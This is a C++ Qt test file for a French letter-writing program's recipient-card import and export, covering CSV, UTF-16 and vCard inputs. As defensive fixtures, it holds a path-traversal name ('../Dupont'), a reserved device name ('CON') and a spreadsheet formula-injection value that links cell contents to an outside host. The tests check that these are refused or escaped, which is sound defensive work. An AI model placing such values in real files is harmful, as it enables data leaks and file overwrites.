#include "TestSupport.h"
#include "core/ContactCard.h"
#include "core/Cp1252.h"
#include "core/DataPaths.h"
#include "core/Folders.h"
#include "core/RecipientCards.h"
#include "core/RecipientFile.h"

#include <QDir>
#include <QStringEncoder>

using namespace Qt::StringLiterals;
using ContactCard::Kind;

namespace {

QList<QStringList> cardsOnDisk()
{
    QList<QStringList> cards;
    for (const QString &name : cardNamesIn(DataPaths::recipientsFolder())) {
        QStringList fields;
        ContactCard::read(QDir(DataPaths::recipientsFolder()).filePath(name + u".ini"_s), Kind::Recipient, &fields);
        cards.append(fields);
    }
    return cards;
}

Recipients::Mapped mapFile(const QString &path)
{
    const RecipientTable table = RecipientFile::readFile(path);
    return Recipients::map(table, Recipients::guessMapping(table));
}

RecipientRow row(int line, const QStringList &fields)
{
    RecipientRow r;
    r.line = line;
    r.fields = fields;
    return r;
}

QStringList fieldsOf(const QString &name, const QString &town)
{
    return {name, u"1 rue A"_s, QString(), town, QString(), u"Madame"_s, u"Directrice"_s};
}

} // namespace

class TestRecipientCards : public QObject
{
    Q_OBJECT

private slots:
    // Files in the shapes common programs export, read, mapped and imported as cards.
    void importsWhatProgramsExport_data()
    {
        QTest::addColumn<QByteArray>("bytes");
        QTest::addColumn<QList<QStringList>>("cards");
        const QList<QStringList> frenchCards = {
            {u"Hélène Dupré"_s, u"12 rue de l'Église; escalier B"_s, u"Bât. « Les Cèdres »"_s,
             u"01000 Bourg-en-Bresse"_s, QString(), u"Mme"_s, u"Trésorière"_s},
            {u"Jean Martin"_s, u"3 place Bellecour"_s, QString(), u"69002 Lyon"_s, QString(), u"M."_s,
             u"Directeur \"adjoint\""_s},
        };
        // A spreadsheet's CSV: semicolons, Windows-1252, quotes only where needed.
        QTest::newRow("spreadsheet csv, windows-1252")
            << Cp1252::encode(u"Civilité;Prénom;Nom;Adresse;Adresse 2;Code postal;Ville;Fonction\r\n"
                              u"Mme;Hélène;Dupré;\"12 rue de l'Église; escalier B\";Bât. « Les Cèdres »;01000;"
                              u"Bourg-en-Bresse;Trésorière\r\n"
                              u"M.;Jean;Martin;3 place Bellecour;;69002;Lyon;\"Directeur \"\"adjoint\"\"\"\r\n"_s)
            << frenchCards;
        // A spreadsheet's "Unicode text": UTF-16 with its mark, tabs.
        QStringEncoder utf16(QStringEncoder::Utf16LE);
        QTest::newRow("unicode text, utf-16 tabs")
            << QByteArray("\xFF\xFE") +
                   QByteArray(utf16.encode(
                       u"Civilité\tPrénom\tNom\tAdresse\tAdresse 2\tCode postal\tVille\tFonction\r\n"
                       u"Mme\tHélène\tDupré\t12 rue de l'Église; escalier B\tBât. « Les Cèdres »\t01000\t"
                       u"Bourg-en-Bresse\tTrésorière\r\n"
                       u"M.\tJean\tMartin\t3 place Bellecour\t\t69002\tLyon\t\"Directeur \"\"adjoint\"\"\"\r\n"_s))
            << frenchCards;
        // An address book's CSV: English headers, commas, UTF-8, an address over two lines.
        QTest::newRow("address book csv, english headers")
            << u"Name Prefix,Given Name,Family Name,Organization 1 - Title,Address 1 - Street,Address 1 - City,"
               u"Address 1 - Postal Code,Address 1 - Country,E-mail 1 - Value\n"
               u"Mrs.,Łucja,Żak,Présidente,\"5 avenue Foch\nRésidence du Parc\",Nice,06000,France,l@example.org\n"
               u"Mr.,Paul,O'Neil,\"Chief, Sales\",2 rue B,Paris,75011,,p@example.org\n"_s.toUtf8()
            << QList<QStringList>{{u"Łucja Żak"_s, u"5 avenue Foch"_s, u"Résidence du Parc"_s, u"06000 Nice"_s,
                                   u"France"_s, u"Madame"_s, u"Présidente"_s},
                                  {u"Paul O'Neil"_s, u"2 rue B"_s, QString(), u"75011 Paris"_s, QString(),
                                   u"Monsieur"_s, u"Chief, Sales"_s}};
        const QList<QStringList> vcardCards = {
            {u"René Dupré"_s, u"12 rue Haute"_s, u"Bât. A"_s, u"69001 Lyon"_s, u"France"_s, u"M."_s, u"Maire"_s},
            {u"Anne Martin"_s, u"3 place Verte"_s, QString(), u"01000 Bourg-en-Bresse"_s, QString(), u"Madame"_s,
             u"Présidente"_s},
        };
        QTest::newRow("vcard 2.1") << QByteArray(
                                          "BEGIN:VCARD\r\nVERSION:2.1\r\n"
                                          "N;CHARSET=ISO-8859-1;ENCODING=QUOTED-PRINTABLE:Dupr=E9;Ren=E9;;M.;\r\n"
                                          "ADR;WORK;PREF:;B\xE2t. A;12 rue Haute;Lyon;;69001;France\r\n"
                                          "TITLE:Maire\r\nEND:VCARD\r\n"
                                          "BEGIN:VCARD\r\nVERSION:2.1\r\nN:Martin;Anne;;Madame;\r\n"
                                          "ADR:;;3 place Verte;Bourg-en-Bresse;;01000;\r\n"
                                          "TITLE;ENCODING=QUOTED-PRINTABLE;CHARSET=UTF-8:Pr=C3=A9sidente\r\n"
                                          "END:VCARD\r\n")
                                   << vcardCards;
        QTest::newRow("vcard 3.0") << u"BEGIN:VCARD\r\nVERSION:3.0\r\nN:Dupré;René;;M.;\r\nFN:René Dupré\r\n"
                                      u"ADR;TYPE=work:;Bât. A;12 rue\r\n  Haute;Lyon;;69001;France\r\nTITLE:Maire\r\n"
                                      u"END:VCARD\r\nBEGIN:VCARD\r\nVERSION:3.0\r\nN:Martin;Anne;;;\r\n"
                                      u"X-GENDER:Female\r\nADR:;;3 place Verte;Bourg-en-Bresse;;01000;\r\n"
                                      u"ROLE:Présidente\r\nEND:VCARD\r\n"_s.toUtf8()
                                   << vcardCards;
        QTest::newRow("vcard 4.0")
            << u"BEGIN:VCARD\r\nVERSION:4.0\r\nN:Dupré;René;;M.;\r\nFN:René Dupré\r\n"
               u"ADR;PREF=1:;Bât. A;12 rue Haute;Lyon;;69001;France\r\nTITLE:Maire\r\n"
               u"END:VCARD\r\nBEGIN:VCARD\r\nVERSION:4.0\r\nN:Martin;Anne;;;\r\nFN:Anne Martin\r\n"
               u"GENDER:F\r\nADR:;;3 place Verte;Bourg-en-Bresse;;01000;\r\n"
               u"TITLE:Présidente\r\nEND:VCARD\r\n"_s.toUtf8()
            << vcardCards;
    }
    void importsWhatProgramsExport()
    {
        QFETCH(QByteArray, bytes);
        QFETCH(QList<QStringList>, cards);
        QuilloTest::TempProgramFolder folder;
        Init_Dossiers();
        const QString path = folder.filePath(u"destinataires.txt"_s);
        QuilloTest::writeBytes(path, bytes);
        const Recipients::Mapped mapped = mapFile(path);
        QVERIFY(mapped.damaged.isEmpty());
        for (const RecipientRow &r : mapped.rows)
            QVERIFY2(!r.isFlagged(), qPrintable(Recipients::describe(r)));
        const RecipientCards::Result result =
            RecipientCards::importRows(mapped.rows, RecipientCards::ExistingCard::Skip);
        QVERIFY(result.ok());
        QCOMPARE(result.written.size(), cards.size());
        QList<QStringList> expected = cards;
        std::sort(expected.begin(), expected.end());
        QList<QStringList> onDisk = cardsOnDisk();
        std::sort(onDisk.begin(), onDisk.end());
        QCOMPARE(onDisk, expected);
    }

    void existingCardsFollowThePolicy_data()
    {
        QTest::addColumn<int>("policy");
        QTest::addColumn<QStringList>("written");
        QTest::addColumn<QStringList>("skipped");
        QTest::addColumn<QStringList>("files");
        QTest::newRow("replace") << int(RecipientCards::ExistingCard::Replace)
                                 << QStringList{u"Jean Dupont"_s, u"Anne Martin"_s, u"Jean Dupont"_s} << QStringList{}
                                 << QStringList{u"anne martin"_s, u"Jean Dupont"_s};
        QTest::newRow("keep both") << int(RecipientCards::ExistingCard::KeepBoth)
                                   << QStringList{u"Jean Dupont (2)"_s, u"Anne Martin (2)"_s, u"Jean Dupont (3)"_s}
                                   << QStringList{}
                                   << QStringList{u"anne martin"_s, u"Anne Martin (2)"_s, u"Jean Dupont"_s,
                                                  u"Jean Dupont (2)"_s, u"Jean Dupont (3)"_s};
        QTest::newRow("skip") << int(RecipientCards::ExistingCard::Skip) << QStringList{}
                              << QStringList{u"Jean Dupont"_s, u"Anne Martin"_s, u"Jean Dupont"_s}
                              << QStringList{u"anne martin"_s, u"Jean Dupont"_s};
    }
    void existingCardsFollowThePolicy()
    {
        QFETCH(int, policy);
        QFETCH(QStringList, written);
        QFETCH(QStringList, skipped);
        QFETCH(QStringList, files);
        QuilloTest::TempProgramFolder folder;
        Init_Dossiers();
        const QDir cards(DataPaths::recipientsFolder());
        QVERIFY(ContactCard::write(cards.filePath(u"Jean Dupont.ini"_s), Kind::Recipient,
                                   fieldsOf(u"Jean Dupont"_s, u"ancienne"_s)));
        // The same card on Windows, whatever the letter case.
        QVERIFY(ContactCard::write(cards.filePath(u"anne martin.ini"_s), Kind::Recipient,
                                   fieldsOf(u"anne martin"_s, u"ancienne"_s)));
        const QList<RecipientRow> rows = {row(2, fieldsOf(u"Jean Dupont"_s, u"première"_s)),
                                          row(3, fieldsOf(u"Anne Martin"_s, u"deuxième"_s)),
                                          row(4, fieldsOf(u"Jean Dupont"_s, u"troisième"_s))};
        QCOMPARE(RecipientCards::existingNames(rows), (QStringList{u"Jean Dupont"_s, u"Anne Martin"_s}));
        const RecipientCards::Result result = RecipientCards::importRows(rows, RecipientCards::ExistingCard(policy));
        QVERIFY(result.ok());
        QCOMPARE(result.written, written);
        QCOMPARE(result.skipped, skipped);
        QCOMPARE(cardNamesIn(cards.path()), files);
        QStringList fields;
        QVERIFY(ContactCard::read(cards.filePath(u"Jean Dupont.ini"_s), Kind::Recipient, &fields));
        QCOMPARE(fields.at(3), policy == int(RecipientCards::ExistingCard::Replace) ? u"troisième"_s : u"ancienne"_s);
        if (policy == int(RecipientCards::ExistingCard::KeepBoth)) {
            // The numbered card keeps the person's name inside: the letters carry no number.
            QVERIFY(ContactCard::read(cards.filePath(u"Jean Dupont (3).ini"_s), Kind::Recipient, &fields));
            QCOMPARE(fields, fieldsOf(u"Jean Dupont"_s, u"troisième"_s));
        }
    }

    void unfitNamesAndLeftOutRowsAreNotWritten()
    {
        QuilloTest::TempProgramFolder folder;
        Init_Dossiers();
        RecipientRow flagged = row(5, fieldsOf(u"Flagged"_s, QString()));
        flagged.keep = false;
        const RecipientCards::Result result = RecipientCards::importRows(
            {row(2, fieldsOf(u"../Dupont"_s, QString())), row(3, fieldsOf(u"CON"_s, QString())), flagged,
             row(4, fieldsOf(u"Durand"_s, QString()))},
            RecipientCards::ExistingCard::Replace);
        QVERIFY(result.ok());
        QCOMPARE(result.written, QStringList{u"Durand"_s});
        QCOMPARE(result.refused.size(), 2);
        QVERIFY2(result.refused.at(0).startsWith(u"Ligne 2 : « ../Dupont »"_s), qPrintable(result.refused.at(0)));
        QCOMPARE(cardNamesIn(DataPaths::recipientsFolder()), QStringList{u"Durand"_s});
        QVERIFY(QDir(folder.path()).entryList({u"*.ini"_s}, QDir::Files).isEmpty());
    }

    void importedCardsAreTheBytesTheWizardWrites()
    {
        QuilloTest::TempProgramFolder folder;
        Init_Dossiers();
        const QStringList latin = {u"Hélène"_s, u"1 rue €"_s, {}, u"01000 Bourg"_s, {}, u"Mme"_s, u"Maire"_s};
        const QStringList wider = {u"Łukasz"_s, u"ul. Żółta"_s, {}, u"00-001 Warszawa"_s, u"Pologne"_s, u"M."_s, {}};
        QVERIFY(RecipientCards::importRows({row(2, latin), row(3, wider)}, RecipientCards::ExistingCard::Replace).ok());
        for (const QStringList &fields : {latin, wider}) {
            const QString reference = folder.filePath(u"reference.ini"_s);
            QVERIFY(ContactCard::write(reference, Kind::Recipient, fields));
            QCOMPARE(QuilloTest::readBytes(ContactCard::filePath(Kind::Recipient, fields.first())),
                     QuilloTest::readBytes(reference));
        }
    }

    void cancelLeavesOnlyWholeCards()
    {
        QuilloTest::TempProgramFolder folder;
        Init_Dossiers();
        QList<RecipientRow> rows;
        for (int i = 0; i < 10; ++i)
            rows.append(row(i + 2, fieldsOf(u"Destinataire %1"_s.arg(i), u"7500%1 Paris"_s.arg(i))));
        QList<std::pair<int, int>> progress;
        RecipientCards::Callbacks callbacks;
        callbacks.progress = [&](int done, int total) { progress.append({done, total}); };
        callbacks.cancelRequested = [&] { return progress.size() == 3; };
        const RecipientCards::Result result =
            RecipientCards::importRows(rows, RecipientCards::ExistingCard::Replace, callbacks);
        QVERIFY(result.cancelled);
        QCOMPARE(progress, (QList<std::pair<int, int>>{{1, 10}, {2, 10}, {3, 10}}));
        QCOMPARE(result.written.size(), 3);
        const QList<QStringList> onDisk = cardsOnDisk();
        QCOMPARE(onDisk, (QList<QStringList>{rows.at(0).fields, rows.at(1).fields, rows.at(2).fields}));
        // No temporary file of an interrupted write is left among the cards.
        QCOMPARE(QDir(DataPaths::recipientsFolder()).entryList(QDir::Files).size(), 3);
    }

    void aCardThatCannotBeWrittenStopsTheImport()
    {
        QuilloTest::TempProgramFolder folder; // no card folder made
        const RecipientCards::Result result = RecipientCards::importRows(
            {row(2, fieldsOf(u"Durand"_s, QString())), row(3, fieldsOf(u"Martin"_s, QString()))},
            RecipientCards::ExistingCard::Replace);
        QVERIFY(!result.ok());
        QVERIFY(result.error.contains(u"Durand.ini"_s));
        QVERIFY(result.written.isEmpty());
    }

    void exportReadsBackToTheSameCards()
    {
        QuilloTest::TempProgramFolder folder;
        Init_Dossiers();
        const QList<QStringList> cards = {
            {u"Hélène Dupré"_s, u"12 rue de l'Église; escalier B"_s, u"« Les Cèdres », bât. 2"_s,
             u"01000 Bourg-en-Bresse"_s, u"France"_s, u"Mme"_s, u"Trésorière"_s},
            {u"Jean Martin"_s, QString(), QString(), u"69002 Lyon"_s, QString(), u"M."_s, u"Directeur \"adjoint\""_s},
            {u"Œdipe Ÿvon"_s, u"5 quai €uro"_s, QString(), u"2A004 Ajaccio"_s, u"Corse"_s, u"Monsieur"_s,
             u"Président, fondateur"_s},
            // What a spreadsheet would compute, and apostrophes of the user's own.
            {u"@Alice Roy"_s, u"-12 rue du Moulin"_s, u"+33 1 23 45 67 89"_s, u"75001 Paris"_s,
             u"=HYPERLINK(\"http://x.fr/\"&A1)"_s, u"Madame"_s, u"'=déjà écrit en texte"_s},
            {u"Zoé Roy"_s, u"'12 rue"_s, QString(), u"75002 Paris"_s, u"'"_s, u"Mme"_s, u"''-"_s},
        };
        const QDir cardFolder(DataPaths::recipientsFolder());
        for (const QStringList &card : cards)
            QVERIFY(ContactCard::write(cardFolder.filePath(card.first() + u".ini"_s), Kind::Recipient, card));

        const QString path = folder.filePath(u"export.csv"_s);
        QString error;
        QVERIFY(RecipientCards::exportCards(path, {cards[0][0], cards[1][0], cards[2][0], cards[3][0], cards[4][0]},
                                            &error));
        const QByteArray bytes = QuilloTest::readBytes(path);
        QVERIFY(bytes.startsWith("\xEF\xBB\xBF"
                                 "Nom et pr\xC3\xA9nom;Adresse postale;R\xC3\xA9sidence;Code Postal - Ville;"
                                 "Province / Pays;Qualificatif;Fonction\r\n"));
        // No field starts as a formula would.
        QVERIFY(bytes.contains("\r\n'@Alice Roy;'-12 rue du Moulin;'+33 1 23 45 67 89;75001 Paris;"
                               "\"'=HYPERLINK(\"\"http://x.fr/\"\"&A1)\";Madame;''=d\xC3\xA9j\xC3\xA0"));

        const Recipients::Mapped mapped = mapFile(path);
        QList<QStringList> readBack;
        for (const RecipientRow &r : mapped.rows) {
            QVERIFY2(!r.isFlagged(), qPrintable(Recipients::describe(r)));
            readBack.append(r.fields);
        }
        QCOMPARE(readBack, cards);

        // Imported over the same cards, nothing changes, byte for byte.
        const QByteArray before = QuilloTest::readBytes(cardFolder.filePath(cards.at(0).first() + u".ini"_s));
        QVERIFY(RecipientCards::importRows(mapped.rows, RecipientCards::ExistingCard::Replace).ok());
        QCOMPARE(QuilloTest::readBytes(cardFolder.filePath(cards.at(0).first() + u".ini"_s)), before);
        QCOMPARE(cardsOnDisk().size(), cards.size());

        // A file that cannot be written is reported and nothing is left behind.
        const QString unwritable = folder.filePath(u"absent/export.csv"_s);
        QVERIFY(!RecipientCards::exportCsv(unwritable, cards, &error));
        QVERIFY2(error.contains(u"export.csv"_s), qPrintable(error));
        QVERIFY(!RecipientCards::exportCards(path, {u"Personne"_s}, &error));
        QVERIFY(error.contains(u"Personne"_s));
        QCOMPARE(QuilloTest::readBytes(path), bytes); // the earlier export is untouched
    }
};

QUILLO_TEST_MAIN(TestRecipientCards)
#include "tst_recipientcards.moc"
